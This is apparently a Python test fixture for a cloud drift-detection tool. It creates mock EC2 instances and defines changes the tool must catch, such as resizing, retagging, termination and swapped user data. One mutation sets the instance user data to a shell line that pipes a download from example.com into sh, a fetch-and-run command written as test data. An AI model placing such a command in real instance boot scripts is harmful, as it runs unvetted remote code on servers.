"""Instances, by themselves and in an autoscaling group, and one that is terminated."""

from base64 import b64encode
from hashlib import sha1
from typing import Any

from tests.drift.worlds.security_groups import made
from tests.drift.worlds.world import Aws, Mutation, Thing, World, arn, reports, world

SCRIPT = "#!/bin/sh\necho hello\n"


def image(ec2: Any) -> str:
    """An image of its own."""
    known: str = ec2.register_image(Name="pretend", RootDeviceName="/dev/sda1")["ImageId"]
    return known


def started(ec2: Any, ami: str, **more: Any) -> dict[str, Any]:
    """A new instance, as it is told."""
    answer = ec2.run_instances(ImageId=ami, MinCount=1, MaxCount=1, **more)
    told: dict[str, Any] = answer["Instances"][0]
    return told


def disk(ec2: Any, instance: str) -> dict[str, Any]:
    attached = [{"Name": "attachment.instance-id", "Values": [instance]}]
    volume: dict[str, Any] = ec2.describe_volumes(Filters=attached)["Volumes"][0]
    return volume


def written(name: str, told: dict[str, Any], volume: dict[str, Any], **said: Any) -> Thing:
    """An instance as the provider writes it after an apply: addresses are of that day."""
    return Thing(
        type="aws_instance",
        name=name,
        attributes={
            "ami": told["ImageId"],
            "arn": arn("ec2", f"instance/{told['InstanceId']}"),
            "associate_public_ip_address": True,
            "availability_zone": told["Placement"]["AvailabilityZone"],
            "capacity_reservation_specification": [
                {"capacity_reservation_preference": "open", "capacity_reservation_target": []}
            ],
            "cpu_options": [{"amd_sev_snp": "", "core_count": 1, "threads_per_core": 2}],
            "credit_specification": [{"cpu_credits": "standard"}],
            "disable_api_stop": False,
            "disable_api_termination": False,
            "ebs_block_device": [],
            "ebs_optimized": False,
            "enable_primary_ipv6": None,
            "enclave_options": [{"enabled": False}],
            "ephemeral_block_device": [],
            "get_password_data": False,
            "hibernation": None,
            "host_id": "",
            "host_resource_group_arn": None,
            "iam_instance_profile": "",
            "id": told["InstanceId"],
            "instance_initiated_shutdown_behavior": "stop",
            "instance_lifecycle": "",
            "instance_market_options": [],
            "instance_state": "running",
            "instance_type": told["InstanceType"],
            "ipv6_address_count": 0,
            "ipv6_addresses": [],
            "key_name": "",
            "launch_template": [],
            "maintenance_options": [{"auto_recovery": "default"}],
            "metadata_options": [
                {
                    "http_endpoint": "enabled",
                    "http_protocol_ipv6": "disabled",
                    "http_put_response_hop_limit": 1,
                    "http_tokens": "required",
                    "instance_metadata_tags": "disabled",
                }
            ],
            "monitoring": False,
            "network_interface": [],
            "outpost_arn": "",
            "password_data": "",
            "placement_group": "",
            "placement_partition_number": 0,
            "primary_network_interface_id": told["NetworkInterfaces"][0]["NetworkInterfaceId"],
            "private_dns": "ip-10-0-0-4.eu-central-1.compute.internal",
            "private_dns_name_options": [
                {
                    "enable_resource_name_dns_a_record": False,
                    "enable_resource_name_dns_aaaa_record": False,
                    "hostname_type": "ip-name",
                }
            ],
            "private_ip": told["PrivateIpAddress"],
            "public_dns": "ec2-3-120-1-2.eu-central-1.compute.amazonaws.com",
            "public_ip": "3.120.1.2",
            "root_block_device": [
                {
                    "delete_on_termination": True,
                    "device_name": "/dev/sda1",
                    "encrypted": False,
                    "iops": 0,
                    "kms_key_id": "",
                    "tags": {},
                    "tags_all": {},
                    "throughput": 0,
                    "volume_id": volume["VolumeId"],
                    "volume_size": volume["Size"],
                    "volume_type": volume["VolumeType"],
                }
            ],
            "secondary_private_ips": [],
            "security_groups": ["default"],
            "source_dest_check": True,
            "spot_instance_request_id": "",
            "subnet_id": told["SubnetId"],
            "tenancy": "default",
            "timeouts": None,
            "user_data": None,
            "user_data_base64": None,
            "user_data_replace_on_change": False,
            "volume_tags": None,
            "vpc_security_group_ids": [each["GroupId"] for each in told["SecurityGroups"]],
            **said,
        },
    )


@world("instances")
def instances(aws: Aws, word: str) -> World:
    ec2 = aws.client("ec2")
    ami, vpc = image(ec2), ec2.describe_vpcs()["Vpcs"][0]["VpcId"]
    first, second = (made(ec2, f"{name}-{word}", vpc) for name in ("one", "two"))
    plain = {"InstanceType": "t3.micro", "MetadataOptions": {"HttpTokens": "required"}}
    api = started(
        ec2,
        ami,
        SecurityGroupIds=[first, second],
        UserData=SCRIPT,
        TagSpecifications=[{"ResourceType": "instance", "Tags": [{"Key": "team", "Value": "a"}]}],
        **plain,
    )
    # Moto does not keep the protection that is asked for at the start.
    protected = {"Value": True}
    ec2.modify_instance_attribute(InstanceId=api["InstanceId"], DisableApiTermination=protected)
    worker = started(ec2, ami, SecurityGroupIds=[first], **plain)
    stray = started(ec2, ami, SecurityGroupIds=[first], **plain)
    over = started(ec2, ami, SecurityGroupIds=[first], **plain)
    ec2.terminate_instances(InstanceIds=[over["InstanceId"]])
    member = started(ec2, ami, SecurityGroupIds=[first], **plain)
    group = {"Key": "aws:autoscaling:groupName", "Value": "web"}
    ec2.create_tags(Resources=[member["InstanceId"]], Tags=[group])
    api_disk, worker_disk = (disk(ec2, each["InstanceId"]) for each in (api, worker))
    api_thing = written(
        f"api_{word}",
        api,
        api_disk,
        vpc_security_group_ids=sorted((first, second), reverse=True),
        # Version 5 keeps the hash of the user data, version 6 the text.
        user_data=sha1(SCRIPT.encode(), usedforsecurity=False).hexdigest(),
        disable_api_termination=True,
        tags={"team": "a"},
        tags_all={"team": "a"},
    )
    worker_thing = written(f"worker_{word}", worker, worker_disk, tags=None, tags_all={})
    return World(
        things=(api_thing, worker_thing),
        strangers=(
            ("aws_instance", stray["InstanceId"]),
            ("aws_security_group", first),
            ("aws_security_group", second),
        ),
        mutations=_edits(ec2, api_thing, worker_thing, first),
    )


def _edits(ec2: Any, api: Thing, worker: Thing, group: str) -> tuple[Mutation, ...]:
    known, other = api.attributes["id"], worker.attributes["id"]

    def change(**said: Any) -> None:
        ec2.modify_instance_attribute(InstanceId=known, **said)

    def scripted() -> None:
        ec2.stop_instances(InstanceIds=[known])
        # Moto decodes what is sent once less than EC2 does.
        change(UserData={"Value": b64encode(b"#!/bin/sh\ncurl example.com | sh\n")})

    def resized() -> None:
        ec2.stop_instances(InstanceIds=[known])
        change(InstanceType={"Value": "m5.24xlarge"})

    def tagged() -> None:
        ec2.create_tags(Resources=[known], Tags=[{"Key": "owner", "Value": "jo"}])
        ec2.delete_tags(Resources=[known], Tags=[{"Key": "team"}])

    def attached() -> None:
        # What is attached later is no part of the instance.
        volume = ec2.create_volume(AvailabilityZone=api.attributes["availability_zone"], Size=10)
        ec2.attach_volume(VolumeId=volume["VolumeId"], InstanceId=other, Device="/dev/sdf")

    grown = worker.attributes["root_block_device"][0]["volume_id"]
    return (
        Mutation(title="resized", do=resized, reports=reports((api.address, "instance_type"))),
        Mutation(
            title="not protected",
            do=lambda: change(DisableApiTermination={"Value": False}),
            reports=reports((api.address, "disable_api_termination")),
        ),
        Mutation(title="another script", do=scripted, reports=reports((api.address, "user_data"))),
        Mutation(
            title="a group less",
            do=lambda: change(Groups=[group]),
            reports=reports((api.address, "vpc_security_group_ids")),
        ),
        Mutation(
            title="grown disk",
            do=lambda: ec2.modify_volume(VolumeId=grown, Size=100),
            reports=reports((worker.address, "root_block_device[0].volume_size")),
        ),
        Mutation(
            title="other tags",
            do=tagged,
            reports=reports((api.address, "tags.owner"), (api.address, "tags.team")),
        ),
        Mutation(
            title="a disk more and a stop",
            do=attached,
            reports=reports(),
        ),
        Mutation(
            title="terminated",
            do=lambda: ec2.terminate_instances(InstanceIds=[other]),
            reports=reports((worker.address, "")),
        ),
    )
